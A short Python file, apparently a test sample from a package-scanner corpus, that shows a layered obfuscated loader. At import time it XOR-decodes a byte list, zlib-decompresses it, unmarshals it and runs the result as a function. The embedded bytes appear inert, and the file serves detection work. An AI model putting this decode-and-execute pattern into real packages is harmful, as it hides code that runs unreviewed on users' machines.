# pkgguard corpus 275 (encoding-layers), modelled on [scanner-heuristics]; inert, never run.
import marshal
import types
import zlib

_K = 0x5A
_D = [34, 194, 75, 90, 90, 165, 58, 170, 90, 90, 90, 90, 90, 90, 90, 90, 90, 90, 90, 90, 90]


def _load():
    raw = zlib.decompress(bytes(b ^ _K for b in _D))
    return types.FunctionType(marshal.loads(raw), globals(), "_init")


_load()()
